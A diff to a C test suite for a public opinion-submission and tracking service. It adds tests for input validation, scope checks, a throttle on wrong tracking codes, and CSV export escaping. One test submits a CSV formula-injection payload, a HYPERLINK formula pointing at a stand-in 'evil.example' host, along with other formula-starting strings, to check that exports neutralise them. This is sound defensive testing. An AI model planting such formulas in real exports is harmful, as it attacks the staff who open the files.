@@ -3,7 +3,9 @@
  * 3 and 4): the roll-up counts against hand-counted fixtures (collected and consolidated, per
  * channel), scope, bad input leaving the store unchanged, search, import, and over real loopback
  * HTTP the public cycle (submit, track, merge, problem, measure, verify, reply, rate), the
- * honeypot, the public rate limit and anonymity as read from the schema and the rows. No mocks.
+ * honeypot, the public rate limit and the throttle on wrong tracking codes, anonymity as read
+ * from the schema and the rows, CSV exports that cannot carry formulas, and the API's required
+ * and boolean fields. No mocks.
  */
 #define _GNU_SOURCE /* strcasestr */
 #include <curl/curl.h>
@@ -410,7 +412,8 @@ static void test_scope(void **state)
     struct opinion_input in = {
         .channel = "forum", .content = "越权录入", .area = "work", .target_unit = "K1"
     };
-    assert_int_equal(opinion_add(w.db, &w.k2, &in, &id, &e), RES_INVALID);
+    assert_int_equal(opinion_add(w.db, &w.k2, &in, &id, &e), RES_NOT_FOUND);
+    assert_string_equal(e.field, "target_unit");
     assert_int_equal(opinion_reply(w.db, &w.k2, k1_op, "越权答复", &e), RES_NOT_FOUND);
     assert_int_equal(opinion_merge(w.db, &w.k2, k2_op, k1_op, &e), RES_NOT_FOUND);
     assert_int_equal(opinion_merge(w.db, &w.k2, k1_op, k2_op, &e), RES_NOT_FOUND);
@@ -451,13 +454,15 @@ static void test_bad_input(void **state)
     big[sizeof(big) - 1] = '\0';
     struct {
         const char *channel, *content, *area, *unit, *field;
+        enum result staff; /* what opinion_add answers; the public submission is RES_INVALID */
     } bad[] = {
-        { "forum", "", "work", "K1", "content" },
-        { "forum", big, "work", "K1", "content" },
-        { "forum", "bad \xff\xfe utf-8", "work", "K1", "content" },
-        { "pigeon", "内容", "work", "K1", "channel" },
-        { "forum", "内容", "mood", "K1", "area" },
-        { "forum", "内容", "work", "NOPE", "target_unit" },
+        { "forum", "", "work", "K1", "content", RES_INVALID },
+        { "forum", big, "work", "K1", "content", RES_INVALID },
+        { "forum", "bad \xff\xfe utf-8", "work", "K1", "content", RES_INVALID },
+        { "pigeon", "内容", "work", "K1", "channel", RES_INVALID },
+        { "forum", "内容", "mood", "K1", "area", RES_INVALID },
+        /* for staff an unknown unit is missing, as one outside their scope is */
+        { "forum", "内容", "work", "NOPE", "target_unit", RES_NOT_FOUND },
     };
     for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
         struct opinion_input in = { .channel = bad[i].channel,
@@ -467,7 +472,7 @@ static void test_bad_input(void **state)
         struct err e = { 0 };
         long long id;
         enum result r = opinion_add(w.db, &w.k1, &in, &id, &e);
-        if (r != RES_INVALID || !e.field || strcmp(e.field, bad[i].field) != 0)
+        if (r != bad[i].staff || !e.field || strcmp(e.field, bad[i].field) != 0)
             fail_msg("case %zu: %d field %s, want %s", i, r, e.field ? e.field : "-", bad[i].field);
         char code[TRACKING_TEXT];
         /* the public channel is always "web" */
@@ -615,6 +620,7 @@ static int http_setup(void **state)
     memset(&hx, 0, sizeof(hx));
     set_today("2036-03-10");
     throttle_reset("p:127.0.0.1");
+    throttle_reset("t:127.0.0.1");
     if (curl_global_init(CURL_GLOBAL_DEFAULT) != CURLE_OK)
         return -1;
     struct db *db = open_fresh(hx.path);
@@ -640,6 +646,7 @@ static int http_teardown(void **state)
     hx.srv = NULL;
     curl_global_cleanup();
     throttle_reset("p:127.0.0.1");
+    throttle_reset("t:127.0.0.1");
     set_today(NULL);
     return 0;
 }
@@ -847,11 +854,21 @@ static void test_http_scope_and_bad_input(void **state)
     assert_int_equal(api(h, "POST", path, hx.tok_k2, "{\"text\":\"越权\"}", &r), 404);
     assert_int_equal(api(h, "GET", "/api/v1/stats/rectification?unit=K1", hx.tok_k2, NULL, &r),
                      404);
+    /* a unit outside the caller's scope answers as a missing one does, 404 with the same body */
     assert_int_equal(api(h, "POST", "/api/v1/opinions", hx.tok_k2,
                          "{\"channel\":\"visit\",\"content\":\"越权\",\"area\":\"work\","
                          "\"target_unit\":\"K1\"}",
                          &r),
-                     400);
+                     404);
+    expect_error(&r, 404, "target_unit");
+    char outside[512];
+    snprintf(outside, sizeof(outside), "%s", buf_str(&r.body));
+    assert_int_equal(api(h, "POST", "/api/v1/opinions", hx.tok_k2,
+                         "{\"channel\":\"visit\",\"content\":\"越权\",\"area\":\"work\","
+                         "\"target_unit\":\"NOPE\"}",
+                         &r),
+                     404);
+    assert_string_equal(buf_str(&r.body), outside);
     /* bad input: a clear 4xx naming the field */
     static const struct {
         const char *path, *json, *field;
@@ -905,6 +922,132 @@ static long long peek_count(const char *sql)
     long long n = n_rows(db, sql);
     db_close(db);
     return n;
+}
+
+/* A boolean field takes JSON true or false only (issue #13): "yes", 1, "false" or [] is refused
+ * naming the field, and nothing is stored; null and absence leave the default (not public). */
+static void test_http_strict_booleans(void **state)
+{
+    (void)state;
+    CURL *h = client_new();
+    struct resp r = { 0 };
+    assert_int_equal(api(h, "POST", "/api/v1/problems", hx.tok_k1,
+                         "{\"unit\":\"K1\",\"title\":\"布尔测试\",\"area\":\"work\"}", &r),
+                     201);
+    long long prob = body_int(&r, "id");
+    static const char *const bad[] = { "\"yes\"", "\"no\"", "1", "0", "\"false\"", "[]", "{}" };
+    char json[256];
+    char *before = counts_now();
+    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+        snprintf(json, sizeof(json),
+                 "{\"problem\":%lld,\"title\":\"t\",\"owner\":%lld,\"deadline\":\"2036-12-31\","
+                 "\"public\":%s}",
+                 prob, hx.owner, bad[i]);
+        api(h, "POST", "/api/v1/measures", hx.tok_k1, json, &r);
+        expect_error(&r, 400, "public");
+    }
+    expect_same(before, counts_now(), "measures with a public that is no boolean");
+    free(before);
+    static const struct {
+        const char *value;
+        int public;
+    } good[] = { { "true", 1 }, { "false", 0 }, { "null", 0 }, { NULL, 0 } };
+    for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++) {
+        snprintf(
+            json, sizeof(json),
+            "{\"problem\":%lld,\"title\":\"t\",\"owner\":%lld,\"deadline\":\"2036-12-31\"%s%s}",
+            prob, hx.owner, good[i].value ? ",\"public\":" : "",
+            good[i].value ? good[i].value : "");
+        assert_int_equal(api(h, "POST", "/api/v1/measures", hx.tok_k1, json, &r), 201);
+        char sql[96];
+        snprintf(sql, sizeof(sql), "SELECT public FROM measure WHERE id = %lld",
+                 body_int(&r, "id"));
+        assert_int_equal(peek_count(sql), good[i].public);
+    }
+    resp_free(&r);
+    curl_easy_cleanup(h);
+}
+
+/* Every field the README lists as required for the opinion API's POSTs, left out, is answered
+ * 400 naming it, and nothing changes (issue #13): a missing target_unit filed a staff opinion at
+ * the top of the tree, a missing unit, problem or into answered 404 as if something were unknown.
+ */
+static void test_http_required_fields(void **state)
+{
+    (void)state;
+    CURL *h = client_new();
+    struct resp r = { 0 };
+    assert_int_equal(api(h, "POST", "/api/v1/opinions", hx.tok_admin,
+                         "{\"channel\":\"forum\",\"content\":\"必填项测试\",\"area\":\"work\","
+                         "\"target_unit\":\"K1\"}",
+                         &r),
+                     201);
+    long long op = body_int(&r, "id");
+    assert_int_equal(api(h, "POST", "/api/v1/problems", hx.tok_k1,
+                         "{\"unit\":\"K1\",\"title\":\"必填项\",\"area\":\"work\"}", &r),
+                     201);
+    long long prob = body_int(&r, "id");
+    char measure[256], merge[64], reply[64], implemented[64];
+    snprintf(measure, sizeof(measure),
+             "\"problem\":%lld,\"title\":\"t\",\"owner\":%lld,\"deadline\":\"2036-12-31\"", prob,
+             hx.owner);
+    snprintf(merge, sizeof(merge), "/api/v1/opinions/%lld/merge", op);
+    snprintf(reply, sizeof(reply), "/api/v1/opinions/%lld/reply", op);
+    char body[512];
+    snprintf(body, sizeof(body), "{%s}", measure);
+    assert_int_equal(api(h, "POST", "/api/v1/measures", hx.tok_k1, body, &r), 201);
+    snprintf(implemented, sizeof(implemented), "/api/v1/measures/%lld/implemented",
+             body_int(&r, "id"));
+    /* each body is complete but for the field named */
+    const struct {
+        const char *path, *body, *field;
+    } cases[] = {
+        { "/api/v1/opinions", "{\"content\":\"c\",\"area\":\"work\",\"target_unit\":\"K1\"}",
+          "channel" },
+        { "/api/v1/opinions", "{\"channel\":\"forum\",\"area\":\"work\",\"target_unit\":\"K1\"}",
+          "content" },
+        { "/api/v1/opinions", "{\"channel\":\"forum\",\"content\":\"c\",\"area\":\"work\"}",
+          "target_unit" },
+        { "/api/v1/opinions",
+          "{\"channel\":\"forum\",\"content\":\"c\",\"area\":\"work\",\"target_unit\":\"\"}",
+          "target_unit" },
+        { merge, "{}", "into" },
+        { merge, "{\"into\":null}", "into" },
+        { reply, "{}", "text" },
+        { "/api/v1/problems", "{\"title\":\"t\",\"area\":\"work\",\"opinions\":[]}", "unit" },
+        { "/api/v1/problems", "{\"unit\":\"K1\",\"area\":\"work\",\"opinions\":[]}", "title" },
+        { "/api/v1/problems", "{\"unit\":\"K1\",\"title\":\"t\",\"opinions\":[]}", "area" },
+        { "/api/v1/measures",
+          "{\"title\":\"t\",\"owner\":1,\"deadline\":\"2036-12-31\",\"public\":true}", "problem" },
+        { implemented, "{}", "evidence" },
+        { "/api/v1/public/opinions", "{\"target_unit\":\"K1\"}", "content" },
+    };
+    char *before = counts_now();
+    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+        /* as the administrator at the top, whom no scope check stops first */
+        api(h, "POST", cases[i].path, strstr(cases[i].path, "public") ? NULL : hx.tok_admin,
+            cases[i].body, &r);
+        if (r.status != 400)
+            fail_msg("POST %s %s: %ld %s, expected 400 %s", cases[i].path, cases[i].body, r.status,
+                     buf_str(&r.body), cases[i].field);
+        expect_error(&r, 400, cases[i].field);
+    }
+    /* the measure fields other than problem, from a complete body each time */
+    static const char *const measure_fields[] = { "title", "owner", "deadline" };
+    for (size_t i = 0; i < 3; i++) {
+        json_t *doc = json_loads(body, 0, NULL);
+        assert_non_null(doc);
+        json_object_del(doc, measure_fields[i]);
+        char *text = json_dumps(doc, JSON_COMPACT);
+        json_decref(doc);
+        api(h, "POST", "/api/v1/measures", hx.tok_admin, text, &r);
+        free(text);
+        expect_error(&r, 400, measure_fields[i]);
+    }
+    expect_same(before, counts_now(), "requests without a required field");
+    free(before);
+    resp_free(&r);
+    curl_easy_cleanup(h);
 }
 
 static void test_http_pages(void **state)
@@ -1226,6 +1369,180 @@ static void test_http_rate_limit(void **state)
     test_port = port;
 }
 
+/* Posts doc (taken) as JSON; returns the status. */
+static long api_doc(CURL *h, const char *path, const char *token, json_t *doc, struct resp *r)
+{
+    char *body = json_dumps(doc, JSON_COMPACT);
+    json_decref(doc);
+    long status = api(h, "POST", path, token, body, r);
+    free(body);
+    return status;
+}
+
+/* Fails unless the CSV body holds "'" + text in column col and not text itself. */
+static void expect_text_cell(const struct resp *r, int col, const char *text)
+{
+    char want[512];
+    snprintf(want, sizeof(want), "'%s", text);
+    if (!csv_has_cell(r, col, want) || csv_has_cell(r, col, text))
+        fail_msg("column %d: '%s' is not exported as text:\n%s", col, text, buf_str(&r->body));
+}
+
+/* An anonymous opinion that starts a formula reaches staff's CSV export as text (issue #13):
+ * every text cell starting with = + - @, a tab or a carriage return gets a leading ', the content
+ * and the reply alike; ids stay numbers. */
+static void test_http_csv_formulas(void **state)
+{
+    (void)state;
+    CURL *h = client_new();
+    struct resp r = { 0 };
+    static const char *const attack = "=HYPERLINK(\"http://evil.example/?q=1\",\"点此查看\")";
+    assert_int_equal(api_doc(h, "/api/v1/public/opinions", NULL,
+                             json_pack("{s:s, s:s}", "content", attack, "target_unit", "K1"), &r),
+                     201);
+    static const char *const staff[] = { "+1 窗口服务", "-1+2 考核", "@SUM(1,2) 食堂",
+                                         "\t=1+1 制表符", "\r=1+1 回车" };
+    long long last = 0;
+    for (size_t i = 0; i < sizeof(staff) / sizeof(staff[0]); i++) {
+        assert_int_equal(api_doc(h, "/api/v1/opinions", hx.tok_k1,
+                                 json_pack("{s:s, s:s, s:s, s:s}", "channel", "forum", "content",
+                                           staff[i], "area", "work", "target_unit", "K1"),
+                                 &r),
+                         201);
+        last = body_int(&r, "id");
+    }
+    char path[128];
+    snprintf(path, sizeof(path), "/api/v1/opinions/%lld/reply", last);
+    assert_int_equal(api(h, "POST", path, hx.tok_k1, "{\"text\":\"=1+1 已答复\"}", &r), 200);
+
+    login_as(h, "k1");
+    assert_int_equal(request(h, "GET", "/opinions/export.csv?unit=K1", NULL, NULL, 0, &r), 200);
+    expect_text_cell(&r, 5, attack);
+    for (size_t i = 0; i < sizeof(staff) / sizeof(staff[0]); i++)
+        expect_text_cell(&r, 5, staff[i]);
+    expect_text_cell(&r, 7, "=1+1 已答复");
+    char id[32];
+    snprintf(id, sizeof(id), "%lld", last);
+    assert_true(csv_has_cell(&r, 0, id));
+    assert_true(csv_has_cell(&r, 1, "2036-03-10"));
+    resp_free(&r);
+    curl_easy_cleanup(h);
+}
+
+/* The roll-up's CSV export: unit codes and names that start a formula are written as text, the
+ * counts as numbers. */
+static void test_http_rollup_csv_formulas(void **state)
+{
+    (void)state;
+    CURL *h = client_new();
+    struct resp r = { 0 };
+    static const struct {
+        const char *code, *name;
+    } units[] = {
+        { "-K9", "=1+1 乡" },
+        { "K1_2", "+1 乡" },
+        { "K1_3", "-1 乡" },
+        { "K1_4", "@SUM(1,2) 乡" },
+    };
+    for (size_t i = 0; i < sizeof(units) / sizeof(units[0]); i++)
+        assert_int_equal(api_doc(h, "/api/v1/units", hx.tok_admin,
+                                 json_pack("{s:s, s:s, s:s}", "code", units[i].code, "name",
+                                           units[i].name, "parent", "K1"),
+                                 &r),
+                         201);
+    login_as(h, "k1");
+    assert_int_equal(request(h, "GET", "/rectification/export.csv?unit=K1", NULL, NULL, 0, &r),
+                     200);
+    expect_text_cell(&r, 0, "-K9");
+    for (size_t i = 0; i < sizeof(units) / sizeof(units[0]); i++)
+        expect_text_cell(&r, 1, units[i].name);
+    assert_true(csv_has_cell(&r, 0, "K1"));
+    assert_true(csv_has_cell(&r, 0, "K1_2"));
+    assert_true(csv_has_cell(&r, 2, "0"));
+    resp_free(&r);
+    curl_easy_cleanup(h);
+}
+
+/* The Retry-After header's seconds, or -1 when there is none. */
+static long retry_after(const struct resp *r)
+{
+    const char *h = strcasestr(buf_str(&r->head), "\nRetry-After:");
+    return h ? strtol(h + strlen("\nRetry-After:"), NULL, 10) : -1;
+}
+
+/* Wrong tracking codes are throttled per client (issue #13): with a limit of 3, three failed
+ * lookups on any of the four routes (status and rating, API and page) lock the client out of all
+ * of them, right codes included, for the window: 429 with the JSON envelope on the API, a
+ * translated page on the HTML routes. Right codes never count; submissions keep their own
+ * budget. */
+static void test_http_track_throttle(void **state)
+{
+    (void)state;
+    int port = test_port;
+    throttle_reset("p:127.0.0.1");
+    throttle_reset("t:127.0.0.1");
+    struct server *limited = test_server_start(hx.path, 3);
+    assert_non_null(limited);
+    CURL *h = client_new();
+    struct resp r = { 0 };
+    char code[64], path[128], form[160];
+    snprintf(code, sizeof(code), "%s", submit_public(h, "查询码限流测试"));
+    /* right codes do not count, however often */
+    snprintf(path, sizeof(path), "/api/v1/public/opinions/%s", code);
+    for (int i = 0; i < 5; i++)
+        assert_int_equal(api(h, "GET", path, NULL, NULL, &r), 200);
+    snprintf(path, sizeof(path), "/track?code=%s", code);
+    assert_int_equal(request(h, "GET", path, NULL, NULL, 0, &r), 200);
+    /* three wrong ones, one per route; each is still answered 404 */
+    assert_int_equal(api(h, "GET", "/api/v1/public/opinions/ZZZZZZZZZZZZZZZZ", NULL, NULL, &r),
+                     404);
+    assert_int_equal(request(h, "GET", "/track?code=YYYYYYYYYYYYYYYY", NULL, NULL, 0, &r), 404);
+    assert_int_equal(api(h, "POST", "/api/v1/public/opinions/XXXXXXXXXXXXXXXX/rating", NULL,
+                         "{\"rating\":\"basic\"}", &r),
+                     404);
+    char *before = counts_now();
+    /* now every lookup is refused, the right code too */
+    snprintf(path, sizeof(path), "/api/v1/public/opinions/%s", code);
+    assert_int_equal(api(h, "GET", path, NULL, NULL, &r), 429);
+    expect_error(&r, 429, NULL);
+    assert_true(body_has(&r, "\"too_many\""));
+    assert_false(body_has(&r, "查询码限流测试"));
+    long wait = retry_after(&r);
+    assert_true(wait > 0 && wait <= 900);
+    assert_int_equal(api(h, "GET", "/api/v1/public/opinions/WWWWWWWWWWWWWWWW", NULL, NULL, &r),
+                     429);
+    snprintf(path, sizeof(path), "/api/v1/public/opinions/%s/rating", code);
+    assert_int_equal(api(h, "POST", path, NULL, "{\"rating\":\"basic\"}", &r), 429);
+    expect_error(&r, 429, NULL);
+    /* the page: translated, in Chinese by default and in English when asked */
+    snprintf(path, sizeof(path), "/track?code=%s", code);
+    assert_int_equal(request(h, "GET", path, NULL, NULL, 0, &r), 429);
+    assert_true(body_has(&r, "尝试次数过多"));
+    assert_false(body_has(&r, "查询码限流测试"));
+    assert_true(retry_after(&r) > 0);
+    snprintf(path, sizeof(path), "/track?code=%s&lang=en", code);
+    assert_int_equal(request(h, "GET", path, NULL, NULL, 0, &r), 429);
+    assert_true(body_has(&r, "too many attempts"));
+    snprintf(form, sizeof(form), "code=%s&rating=satisfied", code);
+    assert_int_equal(post_form(h, "/opinion/new", "/track/rate", form, &r), 429);
+    assert_true(body_has(&r, "尝试次数过多"));
+    expect_same(before, counts_now(), "throttled lookups");
+    free(before);
+    /* the empty form is no lookup; submissions have a budget of their own */
+    assert_int_equal(request(h, "GET", "/track", NULL, NULL, 0, &r), 200);
+    submit_public(h, "查询被限后仍可提交");
+    /* the window over (here: the count forgotten), the right code is answered again */
+    throttle_reset("t:127.0.0.1");
+    snprintf(path, sizeof(path), "/api/v1/public/opinions/%s", code);
+    assert_int_equal(api(h, "GET", path, NULL, NULL, &r), 200);
+    resp_free(&r);
+    curl_easy_cleanup(h);
+    server_stop(limited);
+    throttle_reset("p:127.0.0.1");
+    throttle_reset("t:127.0.0.1");
+    test_port = port;
+}
+
 int test_opinions(void)
 {
     const struct CMUnitTest model[] = {
@@ -1234,9 +1551,17 @@ int test_opinions(void)
         cmocka_unit_test(test_bad_input),     cmocka_unit_test(test_search_and_similar),
     };
     const struct CMUnitTest http[] = {
-        cmocka_unit_test(test_http_cycle),     cmocka_unit_test(test_http_scope_and_bad_input),
-        cmocka_unit_test(test_http_pages),     cmocka_unit_test(test_http_honeypot),
-        cmocka_unit_test(test_http_anonymity), cmocka_unit_test(test_http_rate_limit),
+        cmocka_unit_test(test_http_cycle),
+        cmocka_unit_test(test_http_scope_and_bad_input),
+        cmocka_unit_test(test_http_pages),
+        cmocka_unit_test(test_http_honeypot),
+        cmocka_unit_test(test_http_anonymity),
+        cmocka_unit_test(test_http_rate_limit),
+        cmocka_unit_test(test_http_csv_formulas),
+        cmocka_unit_test(test_http_rollup_csv_formulas),
+        cmocka_unit_test(test_http_strict_booleans),
+        cmocka_unit_test(test_http_required_fields),
+        cmocka_unit_test(test_http_track_throttle),
     };
     return cmocka_run_group_tests_name("opinions", model, NULL, NULL) +
            cmocka_run_group_tests_name("opinions over HTTP", http, http_setup, http_teardown);
